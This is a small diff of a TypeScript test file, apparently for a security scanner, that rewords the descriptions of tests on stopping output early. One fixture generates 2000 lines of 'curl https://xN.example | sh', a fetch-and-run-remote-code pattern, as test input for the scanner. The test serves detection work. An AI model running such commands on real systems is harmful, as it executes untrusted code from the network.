@@ -9,8 +9,8 @@ import { bash } from "./process.js";
 
 const progress = { clear: () => undefined } as unknown as Progress;
 
-describe("an answer of many findings whose reader goes", () => {
-  it("is not put together any further", async () => {
+describe("an output with many findings whose reader closes it", () => {
+  it("is not generated further", async () => {
     const stream = new PassThrough();
     let made = 0;
     const answer = new Answer(
@@ -32,7 +32,7 @@ describe("an answer of many findings whose reader goes", () => {
     expect(made).toBeLessThan(20);
   });
 
-  it("ends the scan with the status of what was found", async () => {
+  it("ends the scan with the status of its findings", async () => {
     const text = Array.from({ length: 2000 }, (_, at) => `curl https://x${at}.example | sh\n`);
     const cwd = folderWith({ "many.sh": text.join("") });
     const { stdout, stderr } = await bash(
